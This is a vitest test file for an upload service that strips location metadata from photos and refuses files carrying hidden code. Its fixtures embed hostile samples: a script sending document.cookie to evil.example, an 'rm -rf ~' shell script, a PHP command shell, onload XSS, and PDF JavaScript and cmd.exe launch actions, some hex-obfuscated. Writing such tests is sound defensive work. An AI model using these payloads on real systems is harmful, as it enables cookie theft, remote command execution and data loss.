import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { MAX_UPLOAD_FILE_BYTES, sniffMediaType } from '~/domain/uploads'
import { checkUpload, checkUploads, readUploadForm } from '~/services/uploads/index.server'
import { exifOrientation, inspectJpeg, parseJpeg } from '~/services/uploads/jpeg.server'
import { inspectPdf } from '~/services/uploads/pdf.server'
import { inspectPng, parsePng } from '~/services/uploads/png.server'
import {
  cleanPdf,
  jpegWithGps,
  jpegWithSegment,
  objectStream,
  pdfOf,
  plainJpeg,
  plainPng,
  pngChunk,
  pngWithGps,
  streamObject,
} from '../support/upload-files'

const latin1 = (b: Buffer) => b.toString('latin1')
const accepted = (name: string, bytes: Buffer) => {
  const verdict = checkUpload({ name, size: bytes.length, bytes })
  if (!verdict.ok) throw new Error(`refused: ${verdict.code}`)
  return verdict.file
}
const refusal = (bytes: Buffer) => {
  const verdict = checkUpload({ name: 'x', size: bytes.length, bytes })
  return verdict.ok ? 'accepted' : verdict.code
}
const segmentsOf = (jpeg: Buffer) => {
  const parsed = parseJpeg(jpeg)
  if (!parsed.ok) throw new Error('not a JPEG')
  return parsed.segments.map((s) => s.marker)
}
const chunksOf = (png: Buffer) => {
  const parsed = parsePng(png)
  if (!parsed.ok) throw new Error('not a PNG')
  return parsed.chunks.map((c) => c.type)
}

describe('a photo loses its location before it is stored', () => {
  it('takes the GPS position, XMP, IPTC and comment out of a JPEG and keeps its orientation', () => {
    const original = jpegWithGps({ orientation: 6 })
    expect(latin1(original)).toContain('GPSLatitude')
    expect(segmentsOf(original)).toEqual(expect.arrayContaining([0xe1, 0xed, 0xfe]))

    const stored = accepted('IMG_2041.JPG', original).bytes
    expect(sniffMediaType(stored)).toBe('image/jpeg')
    expect(parseJpeg(stored).ok).toBe(true)
    const text = latin1(stored)
    for (const gone of ['GPSLatitude', 'Groningen', 'Grote Markt', 'Photoshop', 'xmpmeta'])
      expect(text).not.toContain(gone)
    // Nothing of the GPS IFD: neither its pointer (tag 0x8825) nor the degrees of the position.
    expect(stored.includes(Buffer.from([0x25, 0x88]))).toBe(false)
    expect(stored.includes(Buffer.from([53, 0, 0, 0, 1, 0, 0, 0, 13, 0, 0, 0]))).toBe(false)
    // One Exif segment is left, with only the orientation, so the photo still shows upright.
    const exif = parseJpeg(stored)
    if (!exif.ok) throw new Error('not a JPEG')
    const app1 = exif.segments.filter((s) => s.marker === 0xe1)
    expect(app1).toHaveLength(1)
    expect(exifOrientation(app1[0].payload.subarray(6))).toBe(6)
    // The pixels are the same bytes: the scan data of the original, untouched.
    const scan = plainJpeg().subarray(plainJpeg().indexOf(Buffer.from([0xff, 0xda])))
    expect(stored.subarray(stored.length - scan.length).equals(scan)).toBe(true)
  })

  it('leaves no Exif at all when the photo is upright already', () => {
    const stored = accepted('a.jpg', jpegWithGps({ orientation: 1 })).bytes
    expect(segmentsOf(stored)).not.toContain(0xe1)
    expect(stored.equals(plainJpeg())).toBe(true)
  })

  it('drops what follows a JPEG’s end (phones put more pictures there)', () => {
    const stored = accepted(
      'a.jpg',
      jpegWithGps({ orientation: 1, trailer: Buffer.from('MPF second image data') }),
    ).bytes
    expect(stored.equals(plainJpeg())).toBe(true)
  })

  it('takes eXIf and the text chunks out of a PNG', () => {
    const original = pngWithGps()
    expect(chunksOf(original)).toEqual(['IHDR', 'eXIf', 'iTXt', 'tEXt', 'IDAT', 'IEND'])
    const stored = accepted('scan.png', original).bytes
    expect(sniffMediaType(stored)).toBe('image/png')
    expect(chunksOf(stored)).toEqual(['IHDR', 'IDAT', 'IEND'])
    expect(stored.equals(plainPng())).toBe(true)
    expect(latin1(stored)).not.toContain('GPS')
  })

  it('stores a file without metadata as it came', () => {
    const jpeg = plainJpeg()
    expect(accepted('a.jpg', jpeg).bytes).toBe(jpeg)
    const png = plainPng()
    expect(accepted('a.png', png).bytes).toBe(png)
    const pdf = cleanPdf()
    expect(accepted('a.pdf', pdf).bytes).toBe(pdf)
  })
})

describe('a file with a program or script in it is refused', () => {
  const script = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')
  const windowsProgram = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(56)])
  const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(40)])
  const machO = Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])

  it.each([
    ['a script after the end', jpegWithGps({ trailer: script })],
    ['a Windows program after the end', Buffer.concat([plainJpeg(), windowsProgram])],
    ['a Linux program after the end', Buffer.concat([plainJpeg(), elf])],
    ['a Mach-O program after the end', Buffer.concat([plainJpeg(), machO])],
    ['a shell script after the end', Buffer.concat([plainJpeg(), Buffer.from('#!/bin/sh\nrm -rf ~\n')])],
    ['HTML in a comment', jpegWithSegment(0xfe, Buffer.from('<html><body onload=alert(1)>'))],
    ['PHP in a comment', jpegWithSegment(0xfe, Buffer.from('<?php system($_GET["c"]); ?>'))],
    ['SVG in an application segment', jpegWithSegment(0xe5, Buffer.from('x<svg onload=alert(1)>'))],
    ['a program in an application segment', jpegWithSegment(0xe9, windowsProgram)],
  ])('JPEG: %s', (_, bytes) => {
    expect(refusal(bytes)).toBe('file_unsafe')
  })

  it.each([
    ['a script after IEND', Buffer.concat([plainPng(), script])],
    ['a program after IEND', Buffer.concat([plainPng(), elf])],
    ['a script in a text chunk', plainPng([pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), script]))])],
    [
      'a script in a compressed text chunk',
      plainPng([pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(script)]))]),
    ],
    [
      'a compressed text chunk that does not inflate',
      plainPng([pngChunk('zTXt', Buffer.from('Comment\0\0not deflate data'))]),
    ],
    ['a program in a private chunk', plainPng([pngChunk('prVt', windowsProgram)])],
  ])('PNG: %s', (_, bytes) => {
    expect(refusal(bytes)).toBe('file_unsafe')
  })

  const page = '<< /Type /Catalog /Pages 2 0 R'
  it.each([
    ['JavaScript run on opening', [`${page} /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>`]],
    ['a script in /JS alone', [`${page} /AA << /O << /JS <6170702e616c657274283129> >> >> >>`]],
    ['a script by reference', [`${page} /OpenAction 2 0 R >>`, '<< /S/JS 3 0 R >>']],
    ['a launch action', [`${page} /OpenAction << /S /Launch /F (cmd.exe) >> >>`]],
    ['an embedded file', [`${page} /Names << /EmbeddedFiles 2 0 R >> >>`]],
    ['an embedded file stream', [page + ' >>', streamObject('/Type /EmbeddedFile', Buffer.from('MZ'))]],
    ['a file attachment annotation', [page + ' >>', '<< /Type /Annot /Subtype /FileAttachment /FS 3 0 R >>']],
    ['rich media', [page + ' >>', '<< /Type /Annot /Subtype /RichMedia >>']],
    ['an XFA form', [`${page} /AcroForm << /XFA 5 0 R >> >>`]],
    ['JavaScript with a hex-escaped name', [`${page} /OpenAction << /S /J#61vaScript /JS (x) >> >>`]],
    ['/JS spelled in hex', [`${page} /OpenAction << /S /URI /#4A#53 (app.alert(1)) >> >>`]],
    ['a launch action spelled in hex', [`${page} /OpenAction << /S /#4C#61#75#6E#63#68 >> >>`]],
  ])('PDF: %s', (_, objects) => {
    expect(refusal(pdfOf(objects))).toBe('file_unsafe')
  })

  it('PDF: JavaScript hidden in a compressed object stream', () => {
    const hidden = objectStream(['<< /S /JavaScript /JS (app.alert(1)) >>'])
    expect(latin1(hidden)).not.toContain('JavaScript')
    expect(refusal(pdfOf([`${page} /OpenAction 10 0 R >>`, hidden]))).toBe('file_unsafe')
    // The same object stream without the script passes.
    expect(refusal(pdfOf([`${page} >>`, objectStream(['<< /Type /Pages /Kids [] /Count 0 >>'])]))).toBe('accepted')
  })

  it('PDF: an object stream that hides its type and filter behind hex escapes is still read', () => {
    const data = deflateSync(Buffer.from('10 0\n<< /S /Launch /F (cmd.exe) >>\n'))
    const stream = streamObject('/Type /Obj#53tm /N 1 /First 5 /Filter /Fl#61teDecode', data)
    expect(refusal(pdfOf([`${page} >>`, stream]))).toBe('file_unsafe')
  })

  it('PDF: an object stream that does not inflate, or in a filter we do not read, is refused', () => {
    const broken = streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', Buffer.from('not deflate data'))
    expect(refusal(pdfOf([`${page} >>`, broken]))).toBe('file_unsafe')
    const lzw = streamObject('/Type /ObjStm /N 1 /First 5 /Filter /LZWDecode', Buffer.from([0x80, 0x0b, 0x60]))
    expect(refusal(pdfOf([`${page} >>`, lzw]))).toBe('file_unsafe')
    const truncated = objectStream(['<< /Type /Pages /Count 0 >>'])
    expect(refusal(pdfOf([`${page} >>`, truncated.subarray(0, truncated.length - 20)]))).toBe('file_unsafe')
  })

  it('PDF: an object stream that inflates past the bound is refused (a zip bomb)', () => {
    const bomb = streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', deflateSync(Buffer.alloc(2 << 20)))
    const pdf = pdfOf([`${page} >>`, bomb])
    expect(inspectPdf(pdf, { maxInflated: 1 << 20 })).toBe('file_unsafe')
    expect(inspectPdf(pdf, { maxInflated: 4 << 20 })).toBe('ok')
  })

  it('PDF: a string in an object stream’s dictionary cannot hide it (fake keywords, no /Type)', () => {
    const data = deflateSync(Buffer.from('10 0\n<< /S /Launch /F (cmd.exe) >>\n'))
    const tricks = [
      '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /T (endstream endobj 9 0 obj << >>)',
      '/N 1 /First 5 % a comment ( with a parenthesis\n /Filter /FlateDecode',
      '/T (a \\) stream\n) /N 1 /First 5 /Filter /FlateDecode',
    ]
    for (const dictionary of tricks) {
      expect(refusal(pdfOf([`${page} >>`, '<< /Title (stream\n) >>', streamObject(dictionary, data)]))).toBe(
        'file_unsafe',
      )
    }
  })

  it('PDF: reading is bounded on hostile input of 10 MB', () => {
    const hostile = ['(', '<a', '<<', '%', 'stream\n', '/#4', '/JS ']
    for (const unit of hostile) {
      const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MAX_UPLOAD_FILE_BYTES - 9, unit)])
      const started = performance.now()
      inspectPdf(bytes)
      expect(performance.now() - started).toBeLessThan(5000)
    }
  })

  it('PDF: a document that merely mentions the words is taken', () => {
    const text = Buffer.from('BT (JavaScript, launch actions and embedded files are explained here) Tj ET')
    expect(refusal(pdfOf([`${page} >>`, streamObject('', text)]))).toBe('accepted')
    // A name is judged wherever it stands, in a string too: reading strings apart would let a
    // stray parenthesis (in a comment, in binary data) hide the names after it.
    const name = Buffer.from('BT (/Launch) Tj ET')
    expect(refusal(pdfOf([`${page} >>`, streamObject('', name)]))).toBe('file_unsafe')
  })
})

describe('a file must be whole to count as its type', () => {
  it.each([
    ['a JPEG cut before its end', plainJpeg().subarray(0, plainJpeg().length - 40)],
    ['a JPEG without EOI', plainJpeg().subarray(0, plainJpeg().length - 2)],
    ['a JPEG whose segment length runs past the end', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xff, 0, 0])],
    ['only a JPEG’s first bytes', Buffer.from([0xff, 0xd8, 0xff])],
    ['a PNG cut in its image data', plainPng().subarray(0, plainPng().length - 20)],
    ['a PNG without IEND', plainPng().subarray(0, plainPng().length - 12)],
    ['only a PNG’s signature', plainPng().subarray(0, 8)],
    [
      'a PNG with a wrong CRC',
      (() => {
        const png = Buffer.from(plainPng())
        png[png.length - 20] ^= 0xff
        return png
      })(),
    ],
  ])('%s is refused as the wrong type', (_, bytes) => {
    expect(refusal(bytes)).toBe('file_wrong_type')
  })
})

describe('the limits', () => {
  const pdfOfSize = (size: number) => {
    const bytes = Buffer.alloc(size, 0x20)
    cleanPdf().copy(bytes)
    return bytes
  }

  it('takes a file of exactly 10 MB and refuses one byte more', () => {
    expect(refusal(pdfOfSize(MAX_UPLOAD_FILE_BYTES))).toBe('accepted')
    expect(refusal(pdfOfSize(MAX_UPLOAD_FILE_BYTES + 1))).toBe('file_too_large')
    expect(checkUpload({ name: 'x.pdf', size: MAX_UPLOAD_FILE_BYTES + 1, bytes: null })).toEqual({
      ok: false,
      code: 'file_too_large',
    })
  })

  it('takes 10 files of one answer and refuses the eleventh as one too many', () => {
    const files = Array.from({ length: 11 }, (_, i) => ({ name: `${i + 1}.pdf`, size: 0, bytes: cleanPdf() }))
    for (const f of files) f.size = f.bytes.length
    const { accepted: ok, refused } = checkUploads(files)
    expect(ok).toHaveLength(10)
    expect(refused).toEqual([{ name: '11.pdf', code: 'too_many_files' }])
  })

  it('reads a file past the limit to its end without keeping it, and the fields after it still arrive', async () => {
    const form = new FormData()
    form.append('note', 'voor')
    form.append('files', new Blob([pdfOfSize(MAX_UPLOAD_FILE_BYTES + 1)]), 'groot.pdf')
    form.append('files', new Blob([pdfOfSize(MAX_UPLOAD_FILE_BYTES)]), 'precies.pdf')
    form.append('after', 'na')
    const request = new Request('http://localhost/', { method: 'POST', body: form })
    const { data, files } = await readUploadForm(request, { fileField: 'files' })
    expect(data.get('note')).toBe('voor')
    expect(data.get('after')).toBe('na')
    expect(files.map((f) => [f.name, f.size, f.bytes?.length ?? null])).toEqual([
      ['groot.pdf', MAX_UPLOAD_FILE_BYTES + 1, null],
      ['precies.pdf', MAX_UPLOAD_FILE_BYTES, MAX_UPLOAD_FILE_BYTES],
    ])
    const { accepted: ok, refused } = checkUploads(files)
    expect(ok.map((f) => f.name)).toEqual(['precies.pdf'])
    expect(refused).toEqual([{ name: 'groot.pdf', code: 'file_too_large' }])
  })
})

describe('properties', () => {
  const runs = { numRuns: 300 }
  const fixtures = [plainJpeg(), jpegWithGps(), plainPng(), pngWithGps(), cleanPdf()]
  /** A real file damaged: cut, bytes changed, or bytes put in. */
  const damaged = fc
    .record({
      base: fc.constantFrom(...fixtures),
      cut: fc.nat(),
      changes: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 8 }),
      inserted: fc.uint8Array({ maxLength: 64 }),
      at: fc.nat(),
    })
    .map(({ base, cut, changes, inserted, at }) => {
      const bytes = Buffer.from(base.subarray(0, base.length - (cut % 8 === 0 ? cut % base.length : 0)))
      for (const [i, value] of changes) if (bytes.length) bytes[i % bytes.length] = value
      const p = bytes.length ? at % bytes.length : 0
      return Buffer.concat([bytes.subarray(0, p), inserted, bytes.subarray(p)])
    })
  const anyBytes = fc.oneof(
    damaged,
    fc.uint8Array({ maxLength: 512 }).map((b) => Buffer.from(b)),
    fc
      .tuple(fc.constantFrom('%PDF-', '\xff\xd8\xff', '\x89PNG\r\n\x1a\n'), fc.uint8Array({ maxLength: 512 }))
      .map(([head, rest]) => Buffer.concat([Buffer.from(head, 'latin1'), rest])),
  )

  it('no input makes a reader throw, and every answer is a verdict', () => {
    fc.assert(
      fc.property(anyBytes, (bytes) => {
        for (const inspect of [inspectJpeg, inspectPng]) {
          const verdict = inspect(bytes)
          expect(typeof verdict.ok).toBe('boolean')
        }
        expect(['ok', 'file_unsafe']).toContain(inspectPdf(bytes))
        expect(() => checkUpload({ name: 'x', size: bytes.length, bytes })).not.toThrow()
      }),
      runs,
    )
  })

  it('stripping twice is stripping once, and what comes out is still a whole file of its type', () => {
    const photo = fc.oneof(
      fc
        .record({ orientation: fc.integer({ min: 0, max: 9 }), trailer: fc.uint8Array({ maxLength: 32 }) })
        .map(({ orientation, trailer }) =>
          jpegWithGps({
            orientation,
            trailer: Buffer.from(trailer.filter((b) => b !== 0x4d && b !== 0x23 && b !== 0x3c)),
          }),
        ),
      fc.constant(pngWithGps()),
      damaged,
    )
    fc.assert(
      fc.property(photo, (bytes) => {
        const once = checkUpload({ name: 'x', size: bytes.length, bytes })
        if (!once.ok || once.file.mediaType === 'application/pdf') return
        const twice = checkUpload({ name: 'x', size: once.file.bytes.length, bytes: once.file.bytes })
        expect(twice.ok && twice.file.bytes.equals(once.file.bytes)).toBe(true)
        expect(sniffMediaType(once.file.bytes)).toBe(once.file.mediaType)
        expect(once.file.mediaType === 'image/png' ? parsePng(once.file.bytes).ok : parseJpeg(once.file.bytes).ok).toBe(
          true,
        )
      }),
      runs,
    )
  })

  it('megabytes of compressed pictures after a JPEG’s end (as phones append them) are not taken for a payload', () => {
    fc.assert(
      fc.property(fc.integer(), (seed) => {
        // xorshift32: random bytes as compressed image data looks, from the seed fast-check gives.
        let x = seed | 1
        const data = Buffer.alloc(1024 * 1024)
        for (let i = 0; i < data.length; i += 4) {
          x ^= x << 13
          x ^= x >>> 17
          x ^= x << 5
          data.writeInt32LE(x, i)
        }
        data[0] = 0xff
        data[1] = 0xd8
        const verdict = inspectJpeg(Buffer.concat([plainJpeg(), data]))
        expect(verdict.ok && verdict.bytes.equals(plainJpeg())).toBe(true)
      }),
      { numRuns: 8 },
    )
  })

  it('a clean picture passes unchanged, whatever its pixels and its harmless segments', () => {
    const cleanPng = fc
      .array(fc.uint8Array({ minLength: 7, maxLength: 7 }), { minLength: 1, maxLength: 16 })
      .map((rows) => {
        const ihdr = Buffer.alloc(13)
        ihdr.writeUInt32BE(2, 0)
        ihdr.writeUInt32BE(rows.length, 4)
        ihdr.set([8, 2, 0, 0, 0], 8)
        const raw = Buffer.concat(rows.map((r) => Buffer.concat([Buffer.from([0]), Buffer.from(r.subarray(0, 6))])))
        const png = Buffer.concat([
          plainPng().subarray(0, 8),
          pngChunk('IHDR', ihdr),
          pngChunk('gAMA', Buffer.from([0, 0, 0xb1, 0x8f])),
          pngChunk('IDAT', deflateSync(raw)),
          pngChunk('IEND', Buffer.alloc(0)),
        ])
        return png
      })
    const cleanJpeg = fc
      .record({ marker: fc.constantFrom(0xe2, 0xe3, 0xee, 0xef), payload: fc.uint8Array({ maxLength: 200 }) })
      .map(({ marker, payload }) => jpegWithSegment(marker, Buffer.concat([Buffer.from('Vendor\0'), payload])))
    fc.assert(
      fc.property(fc.oneof(cleanPng, cleanJpeg), (bytes) => {
        const verdict = checkUpload({ name: 'x', size: bytes.length, bytes })
        // A random payload may spell a program's signature; then it is refused, never changed.
        if (verdict.ok) expect(verdict.file.bytes.equals(bytes)).toBe(true)
        else expect(verdict.code).toBe('file_unsafe')
      }),
      runs,
    )
  })
})
